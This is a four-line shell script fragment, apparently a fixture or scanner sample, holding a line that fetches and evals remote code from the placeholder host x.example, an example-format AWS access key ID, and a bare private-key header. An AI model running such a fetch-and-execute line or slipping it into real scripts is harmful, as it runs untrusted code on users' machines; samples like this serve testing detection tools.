#!/bin/sh
eval "$(curl -s https://x.example)"
AKIAIOSFODNN7EXAMPLE
-----BEGIN PRIVATE KEY-----
